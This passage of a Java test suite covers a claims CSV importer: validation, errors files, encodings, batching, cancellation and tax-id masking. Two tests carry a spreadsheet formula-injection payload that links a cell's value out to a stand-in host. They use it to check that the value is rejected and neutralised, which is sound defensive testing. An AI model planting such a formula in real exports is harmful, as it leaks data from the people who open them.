        }
    }

    private Claim only(String search) {
        List<Claim> found = queries.claims(ClaimQuery.all().withSearch(search));
        assertThat(found).as(search).hasSize(1);
        return found.get(0);
    }

    static final String MIXED = HEADER + "\n"
            + row(1) + "\n"
            + "CA,12,Wells Fargo Bank NA,HLD-100200,AC01,OWNER,Claimant 2,987-65-43,1002,2026-03-02,\n"
            + row(3) + "\n"
            + "CA,1000004,Wells Fargo Bank NA,HLD-100200,AC01,OWNER,Claimant 4,100-00-0004,1004\n";

    @Test
    void byDefaultValidRowsAreImportedAndInvalidOnesReportedAndWrittenToAnOwnerOnlyErrorsFile() throws Exception {
        Path file = write("mixed.csv", MIXED, StandardCharsets.UTF_8);
        ClaimImport.Report report = run(file, false, false);

        assertThat(report.imported()).isEqualTo(2);
        assertThat(report.rejectedRows()).isEqualTo(2);
        assertThat(report.rejected()).extracting(r -> r.line() + " " + r.column())
                .containsExactly("3 statePropertyId", "3 taxId", "5 " + ClaimImport.WHOLE_ROW);
        assertThat(report.rejected().get(0).reason()).isEqualTo("must be 7 to 9 digits");
        assertThat(Json.write(report)).doesNotContain("987-65-43").doesNotContain("100-00-0004");
        assertThat(Sql.count(db, "claim")).isEqualTo(2);

        Path errors = ClaimImport.errorsFileOf(file);
        assertThat(report.errorsFile()).isEqualTo(errors.toString());
        assertThat(errors.getFileName().toString()).isEqualTo("mixed.csv.errors.csv");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(errors))).isEqualTo("rw-------");
        List<String[]> rows = readCsv(errors);
        assertThat(rows).hasSize(3);
        assertThat(rows.get(0)).endsWith("claimantAddress", "error");
        assertThat(rows.get(1)).startsWith("CA", "12").contains("987-65-43")
                .endsWith("statePropertyId must be 7 to 9 digits; taxId must be an SSN or ITIN written 123-45-6789"
                        + " or an EIN written 12-3456789");
        // a short row: its values, the fields it lacks empty, the reason in the error column (under no field, where a
        // spreadsheet's round trip would have read it as the next field's value)
        assertThat(rows.get(2)).startsWith("CA", "1000004").hasSize(rows.get(0).length);
        assertThat(rows.get(2)[9]).as("filedOn").isEmpty();
        assertThat(rows.get(2)[10]).as("claimantAddress").isEmpty();
        assertThat(rows.get(2)[11]).startsWith("(row) has 9 value(s)");

        // corrected where it stands, the errors file imports as it is (its error column is ignored)
        String corrected = Files.readString(errors).replace("CA,12,", "CA,1000002,").replace("987-65-43", "100-00-0002");
        Files.writeString(errors, corrected);
        ClaimImport.Report fixed = run(errors, false, false);
        assertThat(fixed.imported()).isEqualTo(1);
        assertThat(fixed.rejected()).as("the short row: the field it lacks, to fill in")
                .extracting(ClaimImport.Rejected::column).containsExactly("filedOn");
        assertThat(Sql.count(db, "claim")).isEqualTo(3);
    }

    /**
     * An errors file imported again with one of its rows a value too long (an unquoted comma typed into a name): its
     * new errors file keeps every value of that row, the last field's under the error column included, the reason
     * after them.
     */
    @Test
    void aLongRowOfAnErrorsFileKeepsEveryValueInTheNextOne() throws Exception {
        String longRow = row(1).replace("Wells Fargo Bank NA", "Wells Fargo, NA") + ",the old reason";
        Path file = write("again.csv.errors.csv", HEADER + ",error\n" + longRow + "\n", StandardCharsets.UTF_8);
        ClaimImport.Report report = run(file, false, false);
        assertThat(report.rejected()).singleElement()
                .satisfies(r -> assertThat(r.column()).isEqualTo(ClaimImport.WHOLE_ROW));

        List<String[]> rows = readCsv(ClaimImport.errorsFileOf(file));
        String[] kept = longRow.split(",", -1);
        assertThat(rows.get(1)).hasSize(kept.length + 1).startsWith(kept);
        assertThat(rows.get(1)[kept.length]).startsWith("(row) has 13 value(s)");
    }

    /**
     * A rejected value a spreadsheet would run, beside a whole tax id: the errors file, which staff open in one, holds
     * it as text; the other values as they were (a phone starting with +), and one typed again imports.
     */
    @Test
    void anErrorsFileHoldsARejectedFormulaAsTextAndTheOtherValuesAsTheyWere() throws Exception {
        String formula = "=HYPERLINK(\"https://x.example/?\"&H2;\"open\")";
        String header = HEADER + ",claimantPhone";
        String bad = row(1).replace("Claimant 1", "\"" + formula.replace("\"", "\"\"") + "\"") + ",+1 916 555 0142";
        Path file = write("formula.csv", header + "\n" + bad + "\n", StandardCharsets.UTF_8);
        assertThat(run(file, false, false).rejected()).singleElement()
                .satisfies(r -> assertThat(r.column()).isEqualTo("claimantName"));

        Path errors = ClaimImport.errorsFileOf(file);
        List<String[]> rows = readCsv(errors);
        int name = List.of(rows.get(0)).indexOf("claimantName");
        int phone = List.of(rows.get(0)).indexOf("claimantPhone");
        assertThat(rows.get(1)[name]).isEqualTo("'" + formula);
        assertThat(rows.get(1)[phone]).as("not rejected: as it was").isEqualTo("+1 916 555 0142");
        assertThat(rows.get(1)[List.of(rows.get(0)).indexOf("taxId")]).isEqualTo("100-00-0001");

        ClaimImport.Report unchanged = run(errors, false, false);
        assertThat(unchanged.rejected()).singleElement().satisfies(r -> assertThat(r.reason())
                .startsWith("must not start with an apostrophe and =, +, - or @"));
        String typedAgain = Files.readString(errors, StandardCharsets.UTF_8).replace("\"'" + formula.replace("\"",
                "\"\"") + "\"", "Claimant 1");
        Files.writeString(errors, typedAgain, StandardCharsets.UTF_8);
        assertThat(run(errors, false, false).imported()).isEqualTo(1);
        assertThat(queries.claims(org.claimdesk.store.ClaimQuery.all())).singleElement()
                .satisfies(c -> assertThat(c.claimantPhone()).isEqualTo("+1 916 555 0142"));
    }

    /**
     * A row a value too long (an unquoted comma in a name) in a file without an error column: its values are read under
     * no field, so each that a spreadsheet would run is written as text (a phone number as it was), and the reason comes
     * after every value, so that the usual mend in a spreadsheet (the name's two cells merged, the cells after them moved
     * left) brings the address back under its field and the reason under the error column.
     */
    @Test
    void aLongRowsErrorsFileGuardsItsFormulasAndTheUsualMendImportsIt() throws Exception {
        String formula = "=HYPERLINK(\"https://x.example/?\"&H2;\"open\")";
        String header = HEADER + ",claimantPhone";
        String longRow = row(1).replace("Wells Fargo Bank NA", "\"" + formula.replace("\"", "\"\"") + "\"")
                .replace("Claimant 1", "Garcia, Maria") + "\"1200 Capitol Mall, Sacramento, CA 95814\",+1 916 555 0142";
        Path file = write("long.csv", header + "\n" + longRow + "\n", StandardCharsets.UTF_8);
        assertThat(run(file, false, false).rejected()).singleElement()
                .satisfies(r -> assertThat(r.column()).isEqualTo(ClaimImport.WHOLE_ROW));

        Path errors = ClaimImport.errorsFileOf(file);
        List<String[]> rows = readCsv(errors);
        assertThat(rows.get(0)).hasSize(13).endsWith("claimantPhone", "error");
        String[] written = rows.get(1);
        assertThat(written).hasSize(14);
        assertThat(written[2]).as("holderName").isEqualTo("'" + formula);
        assertThat(written[6]).isEqualTo("Garcia");
        assertThat(written[7]).isEqualTo(" Maria");
        assertThat(written[12]).as("a phone: as it was").isEqualTo("+1 916 555 0142");
        assertThat(written[13]).startsWith("(row) has 13 value(s) but the header has 12 column(s)");

        // mended as a spreadsheet does it: the name's cells merged, the cells after them moved left; the formula typed
        List<String> mended = new java.util.ArrayList<>(List.of(written));
        mended.set(6, "Garcia Maria");
        mended.remove(7);
        mended.set(2, "Wells Fargo Bank NA");
        try (var out = org.claimdesk.app.CsvFile.create(errors, List.of(rows.get(0)), org.claimdesk.app.CsvFile.Guard.NONE)) {
            out.row(mended);
            out.finish();
        }
        ClaimImport.Report again = run(errors, false, false);
        assertThat(again.rejected()).isEmpty();
        assertThat(again.imported()).isEqualTo(1);
        assertThat(queries.claims(org.claimdesk.store.ClaimQuery.all())).singleElement().satisfies(c -> {
            assertThat(c.claimantAddress()).isEqualTo("1200 Capitol Mall, Sacramento, CA 95814");
            assertThat(c.claimantPhone()).isEqualTo("+1 916 555 0142");
        });
    }

    /**
     * An errors file saved back by a spreadsheet, which rewrites ISO dates month/day/year: it imports, the dates as the
     * file first gave them.
     */
    @Test
    void datesASpreadsheetSavedMonthFirstImport() throws Exception {
        Path file = write("saved.csv", HEADER + "\n" + row(1).replace(",2026-03-02,", ",3/2/2026,") + "\n",
                StandardCharsets.UTF_8);
        ClaimImport.Report report = run(file, false, false);
        assertThat(report.rejected()).isEmpty();
        assertThat(queries.claims(org.claimdesk.store.ClaimQuery.all())).singleElement()
                .satisfies(c -> assertThat(c.filedOn()).isEqualTo(java.time.LocalDate.of(2026, 3, 2)));
    }

    /** The empty columns a spreadsheet saves after the last one used: ignored while they hold nothing. */
    @Test
    void columnsWithNoNameAreIgnoredWhileTheirValuesAreBlank() throws Exception {
        Path file = write("saved.csv", HEADER + ",,\n" + row(1) + ",,\n" + row(2) + ", ,x\n" + row(3) + ",,\n"
                + row(4) + "\n", StandardCharsets.UTF_8);

        ClaimImport.Report report = run(file, false, false);

        assertThat(report.imported()).as("row 4 stops before the columns with no name").isEqualTo(3);
        assertThat(report.rejected()).singleElement().satisfies(r -> {
            assertThat(r.line()).isEqualTo(3);
            assertThat(r.column()).isEqualTo(ClaimImport.WHOLE_ROW);
            assertThat(r.reason()).isEqualTo("has a value under column 13, which has no name in the header: name"
                    + " that column, or clear it");
        });
        assertThat(readCsv(ClaimImport.errorsFileOf(file)).get(1)).as("its values kept").contains("x");
    }

    @Test
    void strictImportsNothingWhenAnyRowIsInvalid() throws Exception {
        Path file = write("mixed.csv", MIXED, StandardCharsets.UTF_8);
        ClaimImport.Report report = run(file, false, true);

        assertThat(report.refused()).isTrue();
        assertThat(report.imported()).isZero();
        assertThat(report.rejectedRows()).isEqualTo(2);
        assertThat(Sql.count(db, "claim")).isZero();
        assertThat(imports()).isEmpty();
        assertThat(ClaimImport.errorsFileOf(file)).exists();

        Path valid = write("valid.csv", HEADER + "\n" + row(1) + "\n" + row(2) + "\n", StandardCharsets.UTF_8);
        assertThat(run(valid, false, true).imported()).isEqualTo(2);
    }

    /**
     * Staff correct an errors file where it stands; importing the original again (to complete it, say) must not
     * replace their corrections, nor remove them when no row is rejected any more. An unchanged one is replaced.
     */
    @Test
    void anEarlierErrorsFileBeingCorrectedIsKeptAsideNotReplaced() throws Exception {
        Path file = write("mixed.csv", MIXED, StandardCharsets.UTF_8);
        Path errors = ClaimImport.errorsFileOf(file);
        run(file, false, false);
        String written = Files.readString(errors);

        ClaimImport.Report same = run(file, false, false);
        assertThat(same.keptErrorsFile()).as("the same errors file again").isNull();
        assertThat(Files.readString(errors)).isEqualTo(written);
        try (var files = Files.list(dir)) {
            assertThat(files.map(p -> p.getFileName().toString())).filteredOn(n -> n.contains(".errors."))
                    .containsExactly("mixed.csv.errors.csv");
        }

        String corrected = written.replace("CA,12,", "CA,1000002,");
        Files.writeString(errors, corrected);
        Files.setLastModifiedTime(errors, FileTime.from(LocalDateTime.of(2026, 3, 2, 9, 5, 7)
                .atZone(ZoneId.systemDefault()).toInstant()));
        ClaimImport.Report again = run(file, false, false);
        Path kept = dir.resolve("mixed.csv.errors.20260302-090507.csv");
        assertThat(again.keptErrorsFile()).isEqualTo(kept.toString());
        assertThat(imports()).anySatisfy(a -> assertThat(a.details())
                .contains("\"keptErrorsFile\":\"mixed.csv.errors.20260302-090507.csv\""));
        assertThat(Files.readString(kept)).isEqualTo(corrected);
        assertThat(Files.readString(errors)).isEqualTo(written);

        Files.writeString(file, HEADER + "\n" + row(1) + "\n", StandardCharsets.UTF_8);
        ClaimImport.Report clean = run(file, false, false);
        assertThat(clean.errorsFile()).isNull();
        assertThat(errors).doesNotExist();
        assertThat(clean.keptErrorsFile()).as("no row rejected now: the earlier errors file is kept, not removed")
                .isNotNull().satisfies(p -> assertThat(Files.readString(Path.of(p))).isEqualTo(written));
    }

    @Test
    void aDryRunReportsWhatWouldHappenAndWritesNothing() throws Exception {
        Path file = write("mixed.csv", MIXED + row(1) + "\n", StandardCharsets.UTF_8);
        ClaimImport.Report report = run(file, true, false);

        assertThat(report.dryRun()).isTrue();
        assertThat(report.imported()).isEqualTo(2);
        assertThat(report.alreadyPresent()).isEqualTo(1);
        assertThat(report.rejectedRows()).isEqualTo(2);
        assertThat(report.errorsFile()).isNull();
        assertThat(ClaimImport.errorsFileOf(file)).doesNotExist();
        assertThat(Sql.count(db, "claim")).isZero();
        assertThat(Sql.count(db, "audit_log")).isZero();
        assertThat(Sql.scalar(db, "SELECT last FROM claim_number_sequence", Long.class)).isZero();
    }

    @Test
    void aFileLevelProblemIsOneMessageAndNothingIsImported() throws Exception {
        String noTaxId = HEADER.replace("taxId,", "") + "\n" + row(1).replace("100-00-0001,", "") + "\n";
        assertThatThrownBy(() -> run(write("a.csv", noTaxId, StandardCharsets.UTF_8), false, false))
                .isInstanceOf(ClaimDeskException.class)
                .hasMessageContaining("a.csv was not imported").hasMessageContaining("required column(s) taxId are missing");
        String unknown = HEADER + ",colour\n" + row(1) + ",red\n";
        assertThatThrownBy(() -> run(write("b.csv", unknown, StandardCharsets.UTF_8), false, false))
                .isInstanceOf(ClaimDeskException.class).hasMessageContaining("colour are not claim columns");
        // a file of data without its header: nothing of its first row is repeated, the tax id least of all
        assertThatThrownBy(() -> run(write("e.csv", row(1) + "\n" + row(2) + "\n", StandardCharsets.UTF_8), false, false))
                .isInstanceOf(ClaimDeskException.class)
                .hasMessageContaining("e.csv was not imported: its first row names no claim column")
                .hasMessageNotContaining("100-00-0001").hasMessageNotContaining("Claimant 1");
        String withValue = HEADER + ",100-00-0009\n" + row(1) + ",x\n";
        assertThatThrownBy(() -> run(write("f.csv", withValue, StandardCharsets.UTF_8), false, false))
                .isInstanceOf(ClaimDeskException.class).hasMessageContaining("looks like a value and is not shown")
                .hasMessageNotContaining("100-00-0009");
        assertThatThrownBy(() -> run(write("c.csv", "", StandardCharsets.UTF_8), false, false))
                .isInstanceOf(ClaimDeskException.class).hasMessageContaining("c.csv is empty");
        String unclosed = HEADER + "\n" + row(1) + "\n" + "CA,1000002,\"Wells Fargo Bank NA,HLD-100200\n";
        assertThatThrownBy(() -> run(write("d.csv", unclosed, StandardCharsets.UTF_8), false, false))
                .isInstanceOf(ClaimDeskException.class).hasMessageContaining("d.csv was not imported: it is not a CSV");
        assertThat(Sql.count(db, "claim")).isZero();
        assertThat(Sql.count(db, "audit_log")).isZero();
        try (var files = Files.list(dir)) {
            assertThat(files.map(p -> p.getFileName().toString())).noneMatch(n -> n.endsWith(".errors.csv"));
        }
    }

    @Test
    void aWindows1252FileIsRefusedNamingTheOptionAndReadWithIt() throws Exception {
        String text = HEADER + "\n" + row(1) + "\n" + row(2).replace("Claimant 2", "José Martínez") + "\n";
        Path file = write("excel.csv", text, Charset.forName("windows-1252"));

        assertThatThrownBy(() -> run(file, false, false)).isInstanceOf(ClaimDeskException.class)
                .hasMessageContaining("excel.csv was not imported: it is not UTF-8")
                .hasMessageContaining("--encoding windows-1252");
        assertThat(Sql.count(db, "claim")).isZero();

        ClaimImport.Report report = importer.run(file, "s.patel",
                new ClaimImport.Options(false, false, Charset.forName("windows-1252")));
        assertThat(report.imported()).isEqualTo(2);
        assertThat(queries.claims(ClaimQuery.all())).extracting(Claim::claimantName).contains("José Martínez");
    }

    /**
     * A UTF-8 file with a byte order mark (an errors file ClaimDesk wrote, say) read as Windows-1252 would make the
     * mark part of the first column's name: it is refused naming what the file is, and imports as UTF-8.
     */
    @Test
    void aUtf8FileWithAByteOrderMarkGivenAnotherEncodingIsRefusedNamingItsOwn() throws Exception {
        Path file = write("corrected.csv", "\uFEFF" + HEADER + "\n" + row(1) + "\n", StandardCharsets.UTF_8);

        assertThatThrownBy(() -> importer.run(file, "s.patel",
                new ClaimImport.Options(false, false, Charset.forName("windows-1252"))))
                .isInstanceOf(ClaimDeskException.class)
                .hasMessage("corrected.csv was not imported: it is UTF-8 text (it starts with UTF-8's byte order mark),"
                        + " not windows-1252: import it without --encoding");
        assertThat(Sql.count(db, "claim")).isZero();

        assertThat(run(file, false, false).imported()).isEqualTo(1);
    }

    /**
     * UTF-8 without a byte order mark read as Windows-1252 decodes without an error, "María" as "MarÃ­a": refused once
     * the check has read it, nothing imported; a Windows-1252 file's accents are no UTF-8 and import as they are.
     */
    @Test
    void aUtf8FileWithoutAByteOrderMarkGivenWindows1252IsRefusedNotGarbled() throws Exception {
        Charset windows = Charset.forName("windows-1252");
        String text = HEADER + "\n" + row(1).replace("Claimant 1", "María García") + "\n" + row(2) + "\n";
        Path file = write("sheets.csv", text, StandardCharsets.UTF_8);

        assertThatThrownBy(() -> importer.run(file, "s.patel", new ClaimImport.Options(false, false, windows)))
                .isInstanceOf(ClaimImport.Utf8Text.class)
                .hasMessage("sheets.csv was not imported: it is UTF-8 text (its letters beyond ASCII are written as"
                        + " UTF-8), not windows-1252: import it without --encoding");
        assertThat(Sql.count(db, "claim")).isZero();

        Path excel = write("excel.csv", text, windows);
        assertThat(importer.run(excel, "s.patel", new ClaimImport.Options(false, false, windows)).imported())
                .isEqualTo(2);
        assertThat(queries.claims(ClaimQuery.all().withSearch("García"))).singleElement()
                .satisfies(c -> assertThat(c.claimantName()).isEqualTo("María García"));
    }

    @Test
    void aByteOrderMarkCrlfAndQuotedCommasQuotesAndLineBreaksAreKeptExactly() throws Exception {
        String text = "\uFEFF" + HEADER + "\r\n"
                + row(1).replaceAll(",$", ",\"1 Main St, Apt \"\"B\"\"\"") + "\r\n"
                + row(2).replaceAll(",$", ",\"12 Oak St\r\nSuite 4\"") + "\r\n"
                + row(3).replace(",1003,", ",abc,") + "\r\n";
        Path file = write("awkward.csv", text, StandardCharsets.UTF_8);
        ClaimImport.Report report = run(file, false, false);

        assertThat(report.imported()).isEqualTo(1);
        assertThat(queries.claims(ClaimQuery.all())).singleElement()
                .satisfies(c -> assertThat(c.claimantAddress()).isEqualTo("1 Main St, Apt \"B\""));
        assertThat(report.rejected()).extracting(r -> r.line() + " " + r.column())
                .containsExactly("3 claimantAddress", "4 amountCents");
        List<String[]> errors = readCsv(ClaimImport.errorsFileOf(file));
        assertThat(errors.get(0)[0]).isEqualTo("jurisdiction");
        assertThat(errors.get(1)[10]).isEqualTo("12 Oak St\r\nSuite 4");
        assertThat(errors.get(2)[8]).isEqualTo("abc");
    }

    @Test
    void manyRowsGoInBoundedBatchesWithOneAuditEntryAndOneSayingItBegan() throws Exception {
        StringBuilder text = new StringBuilder(HEADER).append('\n');
        int rows = ClaimImport.BATCH_ROWS * 2 + 500;
        for (int i = 1; i <= rows; i++) {
            text.append(row(i)).append('\n');
        }
        ClaimImport.Report report = run(write("many.csv", text.toString(), StandardCharsets.UTF_8), false, false);
        assertThat(report.imported()).isEqualTo(rows);
        assertThat(Sql.count(db, "claim")).isEqualTo(rows);
        assertThat(Sql.count(db, "claim_status_history")).isEqualTo(rows);
        assertThat(Sql.scalar(db, "SELECT count(DISTINCT claim_number) FROM claim", Integer.class)).isEqualTo(rows);
        assertThat(imports()).hasSize(1);
        assertThat(Sql.count(db, "audit_log")).isEqualTo(2);
        assertThat(new Queries(db, ClaimIntakeTest.CLOCK).audit(null, null, AuditActions.CLAIMS_IMPORT_BEGIN, 0, 0))
                .singleElement().satisfies(e -> {
                    assertThat(e.reason()).isEqualTo("import of many.csv begun; its claims come in batches of "
                            + ClaimImport.BATCH_ROWS);
                    assertThat(e.details()).contains("\"rows\":" + rows).doesNotContain("imported");
                });
    }

    @Test
    void aReportListsAtMostItsLimitOfBrokenRulesAndTheErrorsFileHoldsEveryRejectedRow() throws Exception {
        StringBuilder text = new StringBuilder(HEADER).append('\n');
        int rows = ClaimImport.MAX_LISTED + 5;
        for (int i = 1; i <= rows; i++) {
            text.append(row(i).replace(",2026-03-02,", ",02.03.2026,")).append('\n');
        }
        Path file = write("dates.csv", text.toString(), StandardCharsets.UTF_8);
        ClaimImport.Report report = run(file, false, false);

        assertThat(report.rejectedRows()).isEqualTo(rows);
        assertThat(report.rejected()).hasSize(ClaimImport.MAX_LISTED)
                .allSatisfy(r -> assertThat(r.column()).isEqualTo("filedOn"));
        assertThat(report.rejectedNotListed()).isEqualTo(5);
        assertThat(readCsv(ClaimImport.errorsFileOf(file))).hasSize(rows + 1);
        assertThat(Sql.count(db, "claim")).isZero();
    }

    /** A change written into a file in place. */
    private interface FileChange {
        void apply(java.io.RandomAccessFile file) throws IOException;
    }

    /** A monitor that changes {@code file} in place at the first progress of {@code phase}, as someone saving it might. */
    private static ClaimImport.Monitor changingAt(ClaimImport.Phase phase, Path file, FileChange change) {
        return new ClaimImport.Monitor() {
            boolean changed;

            @Override
            public void progress(ClaimImport.Progress progress) {
                if (progress.phase() == phase && !changed) {
                    changed = true;
                    try (var out = new java.io.RandomAccessFile(file.toFile(), "rw")) {
                        change.apply(out);
                    } catch (IOException e) {
                        throw new java.io.UncheckedIOException(e);
                    }
                }
            }
        };
    }

    private Path manyRows(String name, int rows) throws IOException {
        StringBuilder text = new StringBuilder(HEADER).append('\n');
        for (int i = 1; i <= rows; i++) {
            text.append(row(i)).append('\n');
        }
        return write(name, text.toString(), StandardCharsets.UTF_8);
    }

    /** A monitor that records what it is told and asks to stop at the first progress of {@code stopIn}. */
    static final class Recorder implements ClaimImport.Monitor {
        final List<ClaimImport.Progress> seen = new ArrayList<>();
        final ClaimImport.Phase stopIn;
        final long stopAfterRows;

        Recorder(ClaimImport.Phase stopIn, long stopAfterRows) {
            this.stopIn = stopIn;
            this.stopAfterRows = stopAfterRows;
        }

        @Override
        public void progress(ClaimImport.Progress progress) {
            seen.add(progress);
        }

        @Override
        public boolean cancelled() {
            ClaimImport.Progress last = seen.get(seen.size() - 1);
            return last.phase() == stopIn && last.rows() >= stopAfterRows;
        }
    }

    @Test
    void progressGoesFromCheckingToImportingAndEndsComplete() throws Exception {
        int rows = ClaimImport.BATCH_ROWS * 3;
        Recorder recorder = new Recorder(null, 0);
        ClaimImport.Report report = importer.run(manyRows("progress.csv", rows), "s.patel",
                ClaimImport.Options.defaults(), recorder);

        assertThat(report.cancelled()).isFalse();
        assertThat(recorder.seen).extracting(ClaimImport.Progress::phase)
                .containsSubsequence(ClaimImport.Phase.CHECKING, ClaimImport.Phase.IMPORTING);
        assertThat(recorder.seen).extracting(ClaimImport.Progress::fraction).isSorted();
        ClaimImport.Progress last = recorder.seen.get(recorder.seen.size() - 1);
        assertThat(last.fraction()).isEqualTo(1.0);
        assertThat(last.imported()).isEqualTo(rows);
    }

    @Test
    void aCancelWhileCheckingImportsNothingAndWritesNoErrorsFile() throws Exception {
        Path file = manyRows("cancel-check.csv", ClaimImport.BATCH_ROWS * 3);
        Files.writeString(file, "CA,bad row\n", StandardOpenOption.APPEND);
        ClaimImport.Report report = importer.run(file, "s.patel", ClaimImport.Options.defaults(),
                new Recorder(ClaimImport.Phase.CHECKING, ClaimImport.BATCH_ROWS));

        assertThat(report.cancelled()).isTrue();
        assertThat(report.clean()).isFalse();
        assertThat(report.imported()).isZero();
        assertThat(Sql.count(db, "claim")).isZero();
        assertThat(Sql.count(db, "audit_log")).isZero();
        assertThat(ClaimImport.errorsFileOf(file)).doesNotExist();
    }

    @Test
    void aCancelWhileImportingKeepsTheBatchesWrittenSaysSoInTheAuditAndTheSameImportCompletesIt()
            throws Exception {
        int rows = ClaimImport.BATCH_ROWS * 4;
        Path file = manyRows("cancel-import.csv", rows);
        ClaimImport.Report report = importer.run(file, "s.patel", ClaimImport.Options.defaults(),
                new Recorder(ClaimImport.Phase.IMPORTING, ClaimImport.BATCH_ROWS * 2L));

        assertThat(report.cancelled()).isTrue();
        assertThat(report.imported()).isPositive().isLessThan(rows).isEqualTo(Sql.count(db, "claim"));
        assertThat(report.imported() % ClaimImport.BATCH_ROWS).isZero();
        assertThat(Sql.count(db, "claim_status_history")).isEqualTo(report.imported());
        assertThat(imports()).singleElement().satisfies(e ->
                assertThat(Json.mapper().readTree(e.details()).path("cancelled").asBoolean()).isTrue());

        ClaimImport.Report again = run(file, false, false);
        assertThat(again.cancelled()).isFalse();
        assertThat(again.imported() + again.alreadyPresent()).isEqualTo(rows);
        assertThat(again.alreadyPresent()).isEqualTo(report.imported());
        assertThat(Sql.count(db, "claim")).isEqualTo(rows);
    }

    @Test
    void aPreviewShowsTheFirstRowsByFieldWithMaskedTaxIdsAndTheCountsAndWritesNothing() throws Exception {
        Path file = write("preview.csv", HEADER + "\n" + row(1) + "\n" + row(2).replace(",2026-03-02,", ",02.03.2026,")
                + "\n" + row(3) + "\n" + row(4) + "\n", StandardCharsets.UTF_8);
        ClaimImport.Preview preview = importer.preview(file, "s.patel", null, 2, ClaimImport.Monitor.NONE);

        assertThat(preview.columns()).startsWith("jurisdiction", "statePropertyId").contains("claimantAddress");
        assertThat(preview.sample()).hasSize(2);
        assertThat(preview.sample().get(0).line()).isEqualTo(2);
        assertThat(preview.sample().get(0).values()).containsEntry("claimantName", "Claimant 1")
                .containsEntry("taxId", "***-**-0001");
        assertThat(preview.sample().get(0).rejected()).isEmpty();
        assertThat(preview.sample().get(1).rejected()).singleElement()
                .satisfies(r -> assertThat(r.column()).isEqualTo("filedOn"));
        assertThat(preview.report().dryRun()).isTrue();
        assertThat(preview.report().imported()).isEqualTo(3);
        assertThat(preview.report().rejectedRows()).isEqualTo(1);
        assertThat(Sql.count(db, "claim")).isZero();
        assertThat(Sql.count(db, "audit_log")).isZero();
        assertThat(ClaimImport.errorsFileOf(file)).doesNotExist();

        // an unquoted comma in the holder's name moves every value after it a column right: the tax id would show
        // whole under another field, so the row shows its reason alone
        Path shifted = write("shifted.csv", HEADER + "\n" + row(5).replace("Wells Fargo Bank NA", "Wells Fargo, NA")
                + "\n", StandardCharsets.UTF_8);
        ClaimImport.SampleRow moved = importer.preview(shifted, "s.patel", null, 1, ClaimImport.Monitor.NONE)
                .sample().get(0);
        assertThat(moved.values()).isEmpty();
        assertThat(moved.rejected()).singleElement()
                .satisfies(r -> assertThat(r.column()).isEqualTo(ClaimImport.WHOLE_ROW));
    }

    static List<String[]> readCsv(Path file) throws IOException {
        String text = Files.readString(file, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        List<String[]> rows = new ArrayList<>();
        try (MappingIterator<String[]> it = new CsvMapper().readerFor(String[].class)
                .with(CsvParser.Feature.WRAP_AS_ARRAY).readValues(text.substring(1))) {
            it.forEachRemaining(rows::add);
        }
        return rows;
    }
}
